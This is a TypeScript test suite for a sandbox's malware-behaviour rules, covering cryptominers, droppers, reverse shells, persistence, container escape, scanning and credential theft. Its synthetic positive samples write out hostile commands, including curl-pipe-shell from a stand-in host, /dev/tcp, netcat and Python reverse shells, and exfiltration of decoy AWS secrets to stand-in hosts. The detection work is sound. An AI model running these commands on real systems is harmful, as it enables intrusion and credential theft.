import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  behaviorRules,
  compileBehaviorRules,
  evaluateRule,
  judgeBehavior,
} from '../src/sandbox/rules/index.js';
import type {
  BehaviorInput,
  ConnectEvent,
  FileEvent,
  NetworkEvent,
  Observations,
  ProcessEvent,
} from '../src/sandbox/types.js';

// Synthetic observations. Everything outside scratch locations counts as shipped in the image.
const SCRATCH = /^\/(tmp|var\/tmp|dev\/shm|opt\/payload)\//;

interface Sample {
  processes?: ProcessEvent[];
  files?: FileEvent[];
  connects?: ConnectEvent[];
  network?: NetworkEvent[];
  memfds?: Observations['memfds'];
  stdioSockets?: Observations['stdioSockets'];
  cpu?: Observations['cpu'];
  decoys?: BehaviorInput['decoys'];
}

function input(s: Sample): BehaviorInput {
  return {
    observations: {
      monitor: 'strace',
      processes: s.processes ?? [],
      files: s.files ?? [],
      connects: s.connects ?? [],
      memfds: s.memfds ?? [],
      stdioSockets: s.stdioSockets ?? [],
      cpu: s.cpu ?? [],
      warnings: [],
    },
    network: s.network ?? [],
    dropped: [],
    inImage: (p) => !SCRATCH.test(p),
    decoys: s.decoys ?? { env: {}, files: [] },
    durationMs: 30_000,
  };
}

const P = (pid: number, argv: string[], o: Partial<ProcessEvent> = {}): ProcessEvent => ({
  pid,
  ppid: 1,
  argv,
  path: argv[0]?.startsWith('/') ? argv[0] : `/usr/bin/${argv[0] ?? 'x'}`,
  startMs: 10,
  ...o,
});
const F = (op: FileEvent['op'], path: string, o: Partial<FileEvent> = {}): FileEvent => ({
  op,
  path,
  pid: 100,
  ms: 20,
  ...o,
});
const C = (address: string, port: number, o: Partial<ConnectEvent> = {}): ConnectEvent => ({
  pid: 100,
  ms: 30,
  family: 'inet',
  address,
  port,
  protocol: 'tcp',
  ...o,
});
const N = (
  kind: NetworkEvent['kind'],
  host: string | null,
  firstBytes = '',
  o: Partial<NetworkEvent> = {},
): NetworkEvent => ({
  kind,
  host,
  ip: '10.200.0.1',
  port: kind === 'dns' ? 53 : 443,
  firstBytes,
  ms: 40,
  ...o,
});
const sh = (cmd: string) => [P(100, ['sh', '-c', cmd])];
const by = (pid: number, argv: string[]) => P(pid, argv, { pid });
const range = (n: number) => Array.from({ length: n }, (_, i) => i);
const DECOY_FILE = '/root/.aws/credentials';
const DECOY_NPMRC = '/root/.npmrc';
const DECOY_SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';

/** One positive and one negative sample for every shipped rule. */
const SAMPLES: Record<string, { pos: Sample; neg: Sample }> = {
  'miner-process-name': {
    pos: { processes: [P(100, ['xmrig', '-c', 'config.json'], { path: '/tmp/xmrig' })] },
    neg: { processes: [P(100, ['xmllint', 'a.xml'])] },
  },
  'miner-stratum-url': {
    pos: { processes: [P(100, ['/tmp/k', '-o', 'stratum+tcp://pool.example-mining.test:3333'])] },
    neg: { processes: [P(100, ['curl', 'https://example.com/stratum'])] },
  },
  'miner-argv-flags': {
    pos: { processes: [P(100, ['/tmp/sysd', '--donate-level', '1', '-a', 'rx/0'])] },
    neg: { processes: [P(100, ['node', 'server.js', '--port', '3000', '-a', 'admin'])] },
  },
  'miner-pool-in-argv': {
    pos: { processes: [P(100, ['/tmp/k', '--url', 'gulf.moneroocean.stream:10128'])] },
    neg: { processes: [P(100, ['ping', '-c1', 'example.com'])] },
  },
  'miner-stratum-wire': {
    pos: {
      network: [
        N('tcp', null, '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}', { port: 8080 }),
      ],
    },
    neg: { network: [N('http', 'api.example.com', 'GET /mining HTTP/1.1\\r\\nHost: api.example.com')] },
  },
  'miner-stratum-login': {
    pos: {
      network: [
        N(
          'tcp',
          null,
          '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4AB","pass":"x","agent":"XMRig/6.21.0"}}',
          {
            port: 80,
          },
        ),
      ],
    },
    neg: {
      network: [
        N('http', 'app.test', 'POST /rpc HTTP/1.1\\r\\n\\r\\n{"method":"login","params":{"user":"bob"}}'),
      ],
    },
  },
  'miner-pool-dns': {
    pos: { network: [N('dns', 'xmr.pool.minergate.com')] },
    neg: { network: [N('dns', 'deb.debian.org')] },
  },
  'miner-pool-like-host': {
    pos: { network: [N('dns', 'stratum.example.net')] },
    neg: { network: [N('dns', 'registry.npmjs.org')] },
  },
  'miner-msr-hugepages': {
    pos: { files: [F('write', '/proc/sys/vm/nr_hugepages')] },
    neg: { files: [F('read', '/proc/sys/vm/nr_hugepages')] },
  },
  'miner-msr-module': {
    pos: { processes: [P(100, ['modprobe', 'msr'])] },
    neg: { processes: [P(100, ['lsmod'])] },
  },
  'miner-sustained-cpu': {
    pos: { cpu: range(120).map((i) => ({ ms: i * 250, percent: 99 })) },
    neg: { cpu: range(120).map((i) => ({ ms: i * 250, percent: i < 8 ? 95 : 3 })) },
  },
  'dropper-write-chmod-exec': {
    pos: {
      processes: [
        P(100, ['sh', '/entry.sh']),
        P(101, ['/tmp/kworkerd'], { ppid: 100, startMs: 30 }),
        P(102, ['chmod', '+x', '/tmp/kworkerd']),
      ],
      files: [
        F('write', '/tmp/kworkerd', { mode: 0o644, ms: 10 }),
        F('chmod', '/tmp/kworkerd', { mode: 0o755, ms: 20, pid: 102 }),
        F('exec', '/tmp/kworkerd', { ms: 30, pid: 101 }),
      ],
    },
    neg: { files: [F('write', '/tmp/data.json', { mode: 0o644 }), F('exec', '/usr/bin/cat', { ms: 30 })] },
  },
  'dropper-exec-not-in-image': {
    pos: { files: [F('exec', '/opt/payload/agent')] },
    neg: { files: [F('exec', '/usr/bin/ls'), F('exec', '/bin/sh')] },
  },
  'dropper-script-not-in-image': {
    pos: {
      processes: [P(100, ['/entry.sh']), P(101, ['sh', '/tmp/s.sh'], { ppid: 100, startMs: 30 })],
      files: [F('write', '/tmp/s.sh', { ms: 10 })],
    },
    neg: {
      processes: [P(100, ['sh', '/docker-entrypoint.sh'])],
      files: [F('write', '/tmp/s.sh', { ms: 10 })],
    },
  },
  'dropper-curl-pipe-shell': {
    pos: { processes: sh('curl -fsSL http://payload.test/i.sh | sh') },
    neg: { processes: sh('curl -fsS http://localhost:8080/health || exit 1') },
  },
  'dropper-downloader-into-shell': {
    pos: {
      processes: [
        P(100, ['sh', '/entry.sh']),
        P(101, ['wget', '-qO-', 'http://payload.test/a'], { ppid: 100, startMs: 50 }),
        P(102, ['sh'], { ppid: 100, startMs: 52 }),
      ],
    },
    neg: {
      processes: [
        P(100, ['sh', '/entry.sh']),
        P(101, ['wget', '-q', 'http://payload.test/a'], { ppid: 100, startMs: 50 }),
        P(102, ['sh', '-c', 'echo done'], { ppid: 100, startMs: 52 }),
      ],
    },
  },
  'dropper-base64-pipe-shell': {
    pos: { processes: sh('echo ZWNobyBoaQo= | base64 -d | sh') },
    neg: { processes: [P(100, ['base64', '-d', 'file.b64'])] },
  },
  'compile-exec': {
    pos: {
      processes: [
        P(100, ['sh', '/entry.sh']),
        P(101, ['gcc', '-o', '/tmp/m', 'm.c'], { ppid: 100, startMs: 10 }),
        P(102, ['ld', '-o', '/tmp/m'], { ppid: 101, startMs: 12 }),
        P(103, ['/tmp/m'], { ppid: 100, startMs: 30 }),
      ],
      files: [
        F('write', '/tmp/m', { pid: 102, ms: 15, mode: 0o755 }),
        F('exec', '/tmp/m', { pid: 103, ms: 30 }),
      ],
    },
    neg: { processes: [P(101, ['gcc', '--version'])], files: [F('exec', '/usr/bin/gcc', { pid: 101 })] },
  },
  'reverse-shell-socket-stdio': {
    pos: {
      processes: [P(100, ['bash', '-i'])],
      stdioSockets: [
        { pid: 100, ms: 5, fd: 0 },
        { pid: 100, ms: 5, fd: 1 },
      ],
    },
    neg: { processes: [P(100, ['bash', '-i'])], stdioSockets: [{ pid: 100, ms: 5, fd: 1 }] },
  },
  'reverse-shell-process-socket-stdio': {
    pos: {
      processes: [P(100, ['/tmp/agent'])],
      stdioSockets: [
        { pid: 100, ms: 5, fd: 0 },
        { pid: 100, ms: 5, fd: 1 },
      ],
    },
    // Output alone on a socket is a send (`echo x > /dev/tcp/...`), not a remote shell.
    neg: { processes: [P(100, ['/usr/bin/logger'])], stdioSockets: [{ pid: 100, ms: 5, fd: 1 }] },
  },
  'reverse-shell-dev-tcp': {
    pos: { processes: sh('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1') },
    neg: { processes: sh('ls /dev/shm') },
  },
  'reverse-shell-netcat-exec': {
    pos: { processes: [P(100, ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'])] },
    neg: { processes: [P(100, ['nc', '-z', '-v', 'db', '5432'])] },
  },
  'reverse-shell-socat-exec': {
    pos: { processes: [P(100, ['socat', 'tcp:10.0.0.1:4444', 'exec:/bin/sh,pty,stderr'])] },
    neg: { processes: [P(100, ['socat', 'TCP-LISTEN:8080,fork', 'TCP:app:80'])] },
  },
  'reverse-shell-interpreter-oneliner': {
    pos: {
      processes: [
        P(100, [
          'python3',
          '-c',
          'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
        ]),
      ],
    },
    neg: { processes: [P(100, ['python3', '-c', 'import socket; print(socket.gethostname())'])] },
  },
  'reverse-shell-fifo-netcat': {
    pos: { processes: sh('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f') },
    neg: { processes: [P(100, ['mkfifo', '/tmp/pipe'])] },
  },
  'persistence-cron': {
    pos: { processes: [by(100, ['sh', '/entry.sh'])], files: [F('write', '/etc/cron.d/sysupdate')] },
    neg: {
      processes: [by(100, ['dpkg', '--unpack', 'cron.deb'])],
      files: [F('write', '/etc/cron.d/sysupdate')],
    },
  },
  'persistence-crontab-install': {
    pos: { processes: [P(100, ['crontab', '/tmp/c'])] },
    neg: { processes: [P(100, ['crontab', '-l'])] },
  },
  'persistence-ld-preload': {
    pos: { files: [F('write', '/etc/ld.so.preload')] },
    neg: { files: [F('read', '/etc/ld.so.preload')] },
  },
  'persistence-loader': {
    pos: { files: [F('rename', '/tmp/x', { target: '/lib64/ld-linux-x86-64.so.2' })] },
    neg: { files: [F('write', '/lib/x86_64-linux-gnu/libfoo.so.1')] },
  },
  'persistence-ssh-authorized-keys': {
    pos: { files: [F('write', '/root/.ssh/authorized_keys')] },
    neg: { files: [F('read', '/root/.ssh/authorized_keys')] },
  },
  'persistence-shell-rc': {
    pos: { files: [F('write', '/root/.bashrc')] },
    neg: { files: [F('write', '/root/.bash_history')] },
  },
  'persistence-systemd-unit': {
    pos: { files: [F('write', '/etc/systemd/system/kworker.service')] },
    neg: { files: [F('write', '/etc/systemd/resolved.conf')] },
  },
  'persistence-init-scripts': {
    pos: { files: [F('write', '/etc/init.d/sshd2')] },
    neg: { files: [F('write', '/etc/hostname')] },
  },
  'persistence-sudoers': {
    pos: { files: [F('write', '/etc/sudoers.d/99-backdoor')] },
    neg: { files: [F('read', '/etc/sudoers')] },
  },
  'escape-runtime-socket': {
    pos: { connects: [C('/var/run/docker.sock', 0, { family: 'unix', protocol: 'unknown' })] },
    neg: { connects: [C('/var/run/nscd/socket', 0, { family: 'unix', protocol: 'unknown' })] },
  },
  'escape-runtime-socket-file': {
    pos: { files: [F('read', '/run/docker.sock')] },
    neg: { files: [F('read', '/run/app.sock')] },
  },
  'escape-release-agent': {
    pos: { files: [F('write', '/sys/fs/cgroup/rdma/release_agent')] },
    neg: { files: [F('read', '/sys/fs/cgroup/rdma/release_agent')] },
  },
  'escape-kernel-helpers': {
    pos: { files: [F('write', '/proc/sys/kernel/core_pattern')] },
    neg: { files: [F('read', '/proc/sys/kernel/core_pattern')] },
  },
  'escape-sysrq': {
    pos: { files: [F('write', '/proc/sysrq-trigger')] },
    neg: { files: [F('read', '/proc/sys/kernel/sysrq')] },
  },
  'escape-proc-sys-write': {
    pos: { files: [F('write', '/proc/sys/net/ipv4/ip_forward')] },
    neg: { files: [F('write', '/proc/sys/vm/nr_hugepages')] },
  },
  'escape-mount': {
    pos: { processes: [P(100, ['mount', '-t', 'cgroup', 'cgroup', '/mnt'])] },
    neg: { processes: [P(100, ['mount'])] },
  },
  'escape-namespace-tools': {
    pos: { processes: [P(100, ['nsenter', '-t', '1', '-m', '-u', '-n', '-i', 'sh'])] },
    neg: { processes: [P(100, ['env'])] },
  },
  'escape-host-root-via-proc': {
    pos: { files: [F('read', '/proc/1/root/etc/shadow')] },
    neg: { files: [F('read', '/proc/self/root/etc/hosts')] },
  },
  'escape-block-device': {
    pos: { files: [F('read', '/dev/sda1')] },
    neg: { files: [F('read', '/dev/urandom')] },
  },
  'escape-kernel-memory': {
    pos: { files: [F('read', '/dev/mem')] },
    neg: { files: [F('write', '/dev/null')] },
  },
  'escape-kernel-module': {
    pos: { processes: [P(100, ['insmod', '/tmp/rk.ko'])] },
    neg: { processes: [P(100, ['modprobe', 'msr'])] },
  },
  'scan-fanout': {
    pos: { connects: range(30).map((i) => C(`10.1.0.${i}`, 80, { ms: i * 10 })) },
    neg: { connects: range(10).map((i) => C('10.200.0.1', 5432, { ms: i * 10 })) },
  },
  'scan-tool': {
    pos: { processes: [P(100, ['masscan', '-p80', '10.0.0.0/8'])] },
    neg: { processes: [P(100, ['ping', '-c1', 'example.com'])] },
  },
  'scan-spread-ports': {
    pos: { connects: [C('10.0.0.1', 6379), C('10.0.0.2', 6379), C('10.0.0.3', 6379)] },
    neg: { connects: [C('10.200.0.1', 6379), C('10.200.0.1', 6379)] },
  },
  'scan-docker-api': {
    pos: { connects: [C('172.17.0.1', 2375)] },
    neg: { connects: [C('127.0.0.1', 2375)] },
  },
  'cred-decoy-read': {
    pos: {
      decoys: { env: {}, files: [DECOY_FILE] },
      processes: [by(100, ['cat', DECOY_FILE])],
      files: [F('read', DECOY_FILE)],
    },
    neg: {
      decoys: { env: {}, files: [DECOY_FILE, DECOY_NPMRC] },
      processes: [by(100, ['python3', 'app.py']), by(101, ['node', '/usr/local/bin/npm', 'start'])],
      files: [F('read', '/app/config'), F('read', DECOY_NPMRC, { pid: 101 })],
    },
  },
  'cred-decoy-sent': {
    pos: {
      decoys: { env: { AWS_SECRET_ACCESS_KEY: DECOY_SECRET }, files: [] },
      network: [
        N('http', 'collect.test', `POST /k HTTP/1.1\\r\\n\\r\\nkey=${encodeURIComponent(DECOY_SECRET)}`, {
          port: 80,
        }),
      ],
    },
    neg: {
      decoys: { env: { AWS_SECRET_ACCESS_KEY: DECOY_SECRET }, files: [] },
      network: [N('http', 'api.test', 'GET / HTTP/1.1\\r\\nHost: api.test', { port: 80 })],
    },
  },
  'cred-cloud-config': {
    pos: { files: [F('read', '/root/.docker/config.json')] },
    neg: {
      decoys: { env: {}, files: ['/root/.docker/config.json'] },
      files: [F('read', '/root/.docker/config.json')],
    },
  },
  'cred-k8s-service-account': {
    pos: { files: [F('read', '/var/run/secrets/kubernetes.io/serviceaccount/token')] },
    neg: { files: [F('read', '/var/run/secrets/app/db-password')] },
  },
  'cred-ssh-private-key': {
    pos: { files: [F('read', '/root/.ssh/id_ed25519')] },
    neg: { files: [F('read', '/root/.ssh/id_ed25519.pub')] },
  },
  'cred-wallet': {
    pos: { files: [F('read', '/root/.bitcoin/wallet.dat')] },
    neg: { files: [F('read', '/root/.cache/pip/http/x')] },
  },
  'cred-proc-environ': {
    pos: { files: [F('read', '/proc/1/environ')] },
    neg: { files: [F('read', '/proc/self/environ'), F('read', '/proc/100/environ')] },
  },
  'cred-cloud-metadata': {
    pos: { connects: [C('169.254.169.254', 80)] },
    neg: { connects: [C('169.254.1.1', 80)] },
  },
  'cred-cloud-metadata-name': {
    pos: { network: [N('dns', 'metadata.google.internal')] },
    neg: { network: [N('dns', 'www.google.com')] },
  },
  'cred-search': {
    pos: { processes: [P(100, ['grep', '-rl', 'BEGIN RSA PRIVATE KEY', '/'])] },
    neg: { processes: [P(100, ['grep', '-r', 'TODO', '/app'])] },
  },
  'suspicious-memfd-exec': {
    pos: { memfds: [{ pid: 100, ms: 10, name: '' }], files: [F('exec', '/proc/self/fd/3')] },
    neg: { memfds: [{ pid: 100, ms: 10, name: 'shm' }], files: [F('exec', '/usr/bin/ls')] },
  },
  'suspicious-exec-dev-shm': {
    pos: { files: [F('exec', '/dev/shm/.x')] },
    neg: { files: [F('write', '/dev/shm/sem.lock')] },
  },
  'suspicious-deleted-exe': {
    pos: { processes: [P(100, ['/tmp/x'], { path: '/tmp/x (deleted)' })] },
    neg: { processes: [P(100, ['/usr/bin/x'])] },
  },
  'suspicious-self-deleting': {
    pos: {
      processes: [P(101, ['/tmp/x'], { startMs: 10 })],
      files: [F('unlink', '/tmp/x', { pid: 101, ms: 20 })],
    },
    neg: {
      processes: [P(101, ['/tmp/x'], { startMs: 10, exitMs: 15 })],
      files: [F('unlink', '/tmp/x', { pid: 100, ms: 20 })],
    },
  },
  'suspicious-history-wipe-file': {
    pos: { files: [F('unlink', '/root/.bash_history')] },
    neg: { files: [F('write', '/root/.bash_history')] },
  },
  'suspicious-history-wipe-command': {
    pos: { processes: sh('unset HISTFILE; history -c') },
    neg: { processes: sh('history | tail -n 5') },
  },
  'suspicious-log-wipe': {
    pos: { files: [F('unlink', '/var/log/wtmp')] },
    neg: { files: [F('unlink', '/var/log/nginx/access.log')] },
  },
  'suspicious-immutable-file': {
    pos: { processes: [P(100, ['chattr', '+i', '/etc/passwd'])] },
    neg: { processes: [P(100, ['chattr', '-i', '/etc/passwd'])] },
  },
  'suspicious-security-tamper': {
    pos: { processes: sh('pkill -f kdevtmpfsi; ufw disable') },
    neg: { processes: sh('iptables -L') },
  },
};

describe('behaviour rules: every rule fires on its sample and not on its negative', () => {
  const rules = behaviorRules().rules;
  it('every shipped rule has samples, and every sample a rule', () => {
    const ids = rules.map((r) => r.id);
    const missing = ids.filter((id) => !SAMPLES[id]);
    const stale = Object.keys(SAMPLES).filter((id) => !ids.includes(id));
    assert.deepEqual(missing, [], `rules without samples: ${missing.join(', ')}`);
    assert.deepEqual(stale, [], `samples without rules: ${stale.join(', ')}`);
  });
  for (const rule of rules) {
    const s = SAMPLES[rule.id];
    if (!s) continue;
    it(rule.id, () => {
      const pos = evaluateRule(rule, input(s.pos));
      assert.ok(pos.length > 0, `${rule.id} should fire on its positive sample`);
      assert.ok(
        pos.every((e) => e.length > 0 && e.length <= 201),
        `${rule.id} evidence is short: ${pos.join(' | ')}`,
      );
      const neg = evaluateRule(rule, input(s.neg));
      assert.deepEqual(neg, [], `${rule.id} should stay quiet on its negative sample`);
    });
  }
});

describe('judgeBehavior', () => {
  it('orders findings by severity, dedupes evidence and keeps it printable', () => {
    const findings = judgeBehavior(
      input({
        processes: [
          P(100, ['xmrig', '--donate-level', '1']),
          P(101, ['xmrig', '--donate-level', '1']),
          P(102, ['nsenter', '-t', '1\n\x1b[2J']),
        ],
      }),
    );
    assert.equal(findings[0]?.severity, 'critical', 'most severe first');
    const names = findings.filter((f) => f.rule === 'miner-process-name');
    assert.equal(names.length, 1, 'same evidence reported once');
    assert.ok(
      findings.every((f) => !f.evidence.includes('\n') && !f.evidence.includes('\x1b')),
      'control characters escaped',
    );
  });

  it('does not call a compiler output a dropped binary', () => {
    const findings = judgeBehavior(input(SAMPLES['compile-exec']?.pos ?? {}));
    const rules = new Set(findings.map((f) => f.rule));
    assert.ok(rules.has('compile-exec'), 'compile-exec fires');
    const ev = findings.find((f) => f.rule === 'compile-exec')?.evidence ?? '';
    assert.ok(
      ev.startsWith('/tmp/m executed, built by gcc -o /tmp/m'),
      `the output and the driver (not the linker it ran) are named: ${ev}`,
    );
    assert.ok(
      !rules.has('dropper-write-chmod-exec') && !rules.has('dropper-exec-not-in-image'),
      [...rules].join(','),
    );
  });

  it('uses the CPU limit it is given', () => {
    const cpu = range(120).map((i) => ({ ms: i * 250, percent: 48 }));
    assert.ok(
      !judgeBehavior(input({ cpu })).some((f) => f.rule === 'miner-sustained-cpu'),
      'half of one core is quiet',
    );
    const limited = judgeBehavior(input({ cpu }), { cpuLimitPercent: 50 });
    assert.ok(
      limited.some((f) => f.rule === 'miner-sustained-cpu'),
      'the whole of a half-core limit fires',
    );
  });

  it('treats /bin as /usr/bin on merged-/usr images', () => {
    const i = input({ files: [F('exec', '/bin/sh')] });
    i.inImage = (p) => p === '/usr/bin/sh';
    assert.deepEqual(judgeBehavior(i), [], 'no finding');
  });
});

describe('decoy credential files', () => {
  const AWS = '/root/.aws/credentials';
  const KEY = '/root/.ssh/id_rsa';
  const content = `[default]\naws_access_key_id = AKIAFAKEABCDEFGH2345\naws_secret_access_key = ${DECOY_SECRET}\n`;
  const decoys: BehaviorInput['decoys'] = {
    env: {},
    files: [AWS, KEY, DECOY_NPMRC],
    fileSecrets: [
      { path: AWS, name: 'aws_access_key_id', value: 'AKIAFAKEABCDEFGH2345' },
      { path: AWS, name: 'aws_secret_access_key', value: DECOY_SECRET },
    ],
  };
  const sent = (network: NetworkEvent[]) =>
    judgeBehavior(input({ decoys, network })).filter((f) => f.rule === 'cred-decoy-sent');

  it('a file secret sent anywhere is high and names its file', () => {
    const wrapped = (
      Buffer.from(`x${content}`)
        .toString('base64')
        .match(/.{1,76}/g) ?? []
    ).join('\\n');
    for (const [how, event] of [
      ['as is', N('tcp', null, `k=${DECOY_SECRET}`, { port: 4444 })],
      [
        'in a base64 of the whole file, at any offset',
        N('http', 'c.test', '', { detail: `GET /u?d=${Buffer.from(content).toString('base64')}` }),
      ],
      [
        'base64 wrapped at 76 columns, one byte in',
        N('http', 'c.test', `POST / HTTP/1.1\\r\\n\\r\\n${wrapped}`),
      ],
      ['hex in a DNS name', N('dns', `${Buffer.from('AKIAFAKEABCDEFGH2345').toString('hex')}.exfil.test`)],
    ] as const) {
      const f = sent([event]);
      assert.equal(f.length, 1, `${how}: ${JSON.stringify(f)}`);
      assert.equal(f[0]?.severity, 'high', `${how}: high`);
      assert.ok(f[0]?.evidence.startsWith(`${AWS} (`), `${how}: names the file: ${f[0]?.evidence}`);
    }
    assert.deepEqual(
      sent([N('http', 'c.test', 'GET /?k=AKIAFAKE HTTP/1.1')]),
      [],
      'the marker alone is not a secret',
    );
  });

  it('reading a planted file is one medium finding, not also the generic credential-file rules', () => {
    const findings = judgeBehavior(
      input({
        decoys,
        processes: [by(100, ['cat', AWS, KEY])],
        files: [F('read', AWS), F('read', KEY)],
      }),
    );
    assert.deepEqual(
      findings.map((f) => [f.rule, f.severity, f.evidence]),
      [
        ['cred-decoy-read', 'medium', `read ${AWS} by cat`],
        ['cred-decoy-read', 'medium', `read ${KEY} by cat`],
      ],
      JSON.stringify(findings),
    );
  });

  it('the tool a credential is for may read it; nothing else may', () => {
    const reads = (argv: string[], path: string) =>
      judgeBehavior(input({ decoys, processes: [by(100, argv)], files: [F('read', path)] })).filter(
        (f) => f.rule === 'cred-decoy-read',
      ).length;
    assert.equal(reads(['node', '/usr/local/bin/npm', 'install'], DECOY_NPMRC), 0, 'npm reads ~/.npmrc');
    assert.equal(reads(['npm', 'start'], DECOY_NPMRC), 0, 'npm by name');
    assert.equal(reads(['ssh', 'git@github.com'], KEY), 0, 'ssh reads its key');
    assert.equal(reads(['node', '/tmp/steal.js'], DECOY_NPMRC), 1, 'another node script');
    assert.equal(
      reads(['cat', 'npm', DECOY_NPMRC], DECOY_NPMRC),
      1,
      'a script name counts for interpreters only',
    );
    assert.equal(reads(['npm', 'start'], AWS), 1, "npm reading the AWS credentials is not npm's own use");
  });
});

describe('benign services give no findings', () => {
  const nginx: Sample = {
    processes: [
      P(1, ['/docker-entrypoint.sh', 'nginx', '-g', 'daemon off;'], { ppid: 0, startMs: 0 }),
      P(2, ['find', '/docker-entrypoint.d/', '-mindepth', '1', '-maxdepth', '1', '-type', 'f'], { ppid: 1 }),
      P(3, ['/bin/sh', '/docker-entrypoint.d/20-envsubst-on-templates.sh'], { ppid: 1, startMs: 20 }),
      P(4, ['envsubst', '$NGINX_PORT'], { ppid: 3, startMs: 25 }),
      P(1, ['nginx', '-g', 'daemon off;'], { ppid: 0, startMs: 60, path: '/usr/sbin/nginx' }),
      P(5, ['nginx', '-g', 'daemon off;'], { ppid: 1, startMs: 70, path: '/usr/sbin/nginx' }),
      P(6, ['nginx', '-g', 'daemon off;'], { ppid: 1, startMs: 70, path: '/usr/sbin/nginx' }),
    ],
    files: [
      F('exec', '/docker-entrypoint.sh', { pid: 1, ms: 0 }),
      F('exec', '/usr/bin/find', { pid: 2, ms: 5 }),
      F('exec', '/bin/sh', { pid: 3, ms: 20 }),
      F('read', '/docker-entrypoint.d/20-envsubst-on-templates.sh', { pid: 3, ms: 21 }),
      F('exec', '/usr/bin/envsubst', { pid: 4, ms: 25 }),
      F('read', '/etc/nginx/templates/default.conf.template', { pid: 4, ms: 26 }),
      F('write', '/etc/nginx/conf.d/default.conf', { pid: 3, ms: 26, mode: 0o666 }),
      F('exec', '/usr/sbin/nginx', { pid: 1, ms: 60 }),
      F('read', '/etc/nginx/nginx.conf', { pid: 1, ms: 61 }),
      F('mkdir', '/var/cache/nginx/client_temp', { pid: 1, ms: 62 }),
      F('write', '/var/run/nginx.pid', { pid: 1, ms: 63, mode: 0o644 }),
      F('write', '/var/log/nginx/access.log', { pid: 5, ms: 64, mode: 0o644 }),
      F('read', '/usr/share/nginx/html/index.html', { pid: 5, ms: 5000 }),
    ],
    cpu: range(120).map((i) => ({ ms: i * 250, percent: i < 2 ? 40 : 0.4 })),
  };
  const node: Sample = {
    processes: [
      P(1, ['docker-entrypoint.sh', 'npm', 'start'], {
        ppid: 0,
        startMs: 0,
        path: '/usr/local/bin/docker-entrypoint.sh',
      }),
      P(1, ['npm', 'start'], { ppid: 0, startMs: 5, path: '/usr/local/bin/node' }),
      P(7, ['sh', '-c', 'node server.js'], { ppid: 1, startMs: 300 }),
      P(8, ['node', 'server.js'], { ppid: 7, startMs: 310, path: '/usr/local/bin/node' }),
    ],
    files: [
      F('read', '/app/package.json', { pid: 1, ms: 6 }),
      F('read', '/app/node_modules/express/index.js', { pid: 8, ms: 400 }),
      F('write', '/root/.npm/_logs/2024-01-01T00_00_00_000Z-debug-0.log', { pid: 1, ms: 50, mode: 0o666 }),
      F('write', '/tmp/app.log', { pid: 8, ms: 500, mode: 0o644 }),
      F('mkdir', '/tmp/uploads', { pid: 8, ms: 501 }),
    ],
    connects: [
      C('10.200.0.1', 53, { pid: 8, protocol: 'udp' }),
      C('10.200.0.1', 5432, { pid: 8, ms: 600 }),
      C('10.200.0.1', 6379, { pid: 8, ms: 601 }),
      C('/var/run/nscd/socket', 0, { family: 'unix', pid: 8 }),
    ],
    network: [
      N('dns', 'db'),
      N('dns', 'redis'),
      N('dns', 'api.stripe.com'),
      N('tls', 'api.stripe.com', '\\x16\\x03\\x01'),
      N('tcp', null, '\\x00\\x00\\x00\\x08\\x04\\xd2\\x16/', { port: 5432 }),
    ],
    cpu: range(120).map((i) => ({ ms: i * 250, percent: i < 12 ? 85 : 1 })),
  };
  const python: Sample = {
    processes: [
      P(1, ['python3', '-m', 'http.server', '8000'], { ppid: 0, startMs: 0, path: '/usr/bin/python3.11' }),
    ],
    files: [
      F('read', '/srv/index.html', { pid: 1, ms: 900 }),
      F('write', '/srv/__pycache__/app.cpython-311.pyc', { pid: 1, ms: 50, mode: 0o644 }),
      F('read', '/etc/mime.types', { pid: 1, ms: 60 }),
    ],
  };
  for (const [name, sample] of Object.entries({ nginx, node, python })) {
    it(name, () => {
      const findings = judgeBehavior(input(sample));
      assert.deepEqual(findings, [], `${name}: ${JSON.stringify(findings)}`);
    });
  }
});

describe('rule files are validated at load', () => {
  const ok = `lists:\n  a: [x]\nrules:\n  - id: r-one\n    category: miner\n    severity: low\n    description: d\n    process: { names: "@a" }\n`;
  it('accepts a good file', () => {
    assert.equal(compileBehaviorRules([{ name: 't.yaml', text: ok }]).rules.length, 1, 'one rule');
  });
  const bad: [string, string, RegExp][] = [
    ['unknown list', ok.replace('"@a"', '"@nope"'), /unknown list @nope/],
    ['bad regex', ok.replace('names: "@a"', "argv: '('"), /bad regex/],
    [
      'two conditions',
      ok.replace('process: { names: "@a" }', 'process: { names: "@a" }\n    file: { ops: [write], path: x }'),
      /exactly one/,
    ],
    ['unknown category', ok.replace('miner', 'mining'), /category/],
    ['unknown detector', ok.replace('process: { names: "@a" }', 'detector: { name: magic }'), /detector/],
    ['duplicate id', ok + ok.split('rules:\n')[1], /duplicate id/],
    ['unknown field', ok.replace('description: d', 'description: d\n    weight: 3'), /Unrecognized key/],
  ];
  for (const [label, text, msg] of bad) {
    it(`rejects: ${label}`, () => {
      assert.throws(() => compileBehaviorRules([{ name: 't.yaml', text }]), msg, label);
    });
  }
});
